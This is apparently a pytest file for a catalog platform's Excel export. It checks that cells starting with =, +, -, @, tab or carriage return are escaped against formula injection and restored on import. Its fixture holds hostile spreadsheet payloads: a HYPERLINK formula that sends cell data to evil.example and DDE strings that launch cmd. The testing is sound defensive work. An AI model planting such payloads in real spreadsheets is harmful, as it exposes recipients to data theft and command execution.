"""The Excel export (the platform's only spreadsheet export: catalog, on the page and
the API) never hands a formula to whoever opens it: cells starting with =, +, -, @, tab
or carriage return are escaped (OWASP CSV/formula injection), and import undoes it."""

import io

import pytest
from openpyxl import load_workbook

from mercator.catalog import excel, services
from mercator.catalog.models import Category, Listing, Product
from tests.catalog.conftest import make_listing
from tests.catalog.test_excel import upload
from tests.conftest import bearer_client, master_of

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "name_en": "+cmd|' /C calc'!A0",
    "grade": "-2+3",
    "origin": "@SUM(1+1)*cmd|' /C calc'!A0",
    "province": "\t=1+1",
    "spec": "\r=1+1",
}


def test_cell_safe_escapes_each_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert excel.cell_safe(start + "1+1") == "'" + start + "1+1"
        assert excel.cell_plain(excel.cell_safe(start + "1+1")) == start + "1+1"
    assert excel.cell_safe("一级白砂糖") == "一级白砂糖"
    assert excel.cell_safe(-5) == -5  # numbers are numbers, not text
    assert excel.cell_plain("'quoted") == "'quoted"  # only an escape is undone


@pytest.mark.parametrize("via", ["api", "page"])
def test_export_holds_no_formula_and_imports_back_unchanged(
    world, seller, seller_actor, operator, via, huey_queue, django_capture_on_commit_callbacks
):
    listing = make_listing(
        seller_actor,
        name=HOSTILE["name"],
        name_en=HOSTILE["name_en"],
        grade=HOSTILE["grade"],
        origin=HOSTILE["origin"],
        province=HOSTILE["province"],
    )
    services.product_update(
        actor=seller_actor,
        product_id=listing.sku.product.public_id,
        specification=HOSTILE["spec"],
    )
    Category.objects.filter(code="apple").update(name="=1+1", name_en="@evil")
    api = bearer_client(master_of(seller))
    if via == "api":
        content = api.get("/api/v1/catalog/export").content
    else:
        from django.test import Client

        from tests.factories import PASSWORD

        web = Client()
        assert web.login(username=master_of(seller).person.email, password=PASSWORD)
        content = web.get("/catalog/export/").content
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(excel.FORMULA_STARTS)]
    for value in HOSTILE.values():
        stored = value.strip() if value.strip() != value else value
        assert "'" + stored in texts or "'" + value in texts, value
    assert "'=1+1" in texts and "'@evil" in texts  # the category sheet too
    # Importing the export changes nothing: the escapes are undone.
    product = Product.objects.get()
    before = (product.name, product.name_en, product.grade, Listing.objects.get().origin)
    with django_capture_on_commit_callbacks(execute=True):
        r = upload(api, content)
    assert r.status_code == 201
    huey_queue.run()
    job = api.get(f"/api/v1/catalog/imports/{r.json()['id']}").json()
    assert job["status"] == "done", job["errors"]
    product.refresh_from_db()
    assert (product.name, product.name_en, product.grade, Listing.objects.get().origin) == before
    assert job["summary"]["products_created"] == job["summary"]["listings_created"] == 0
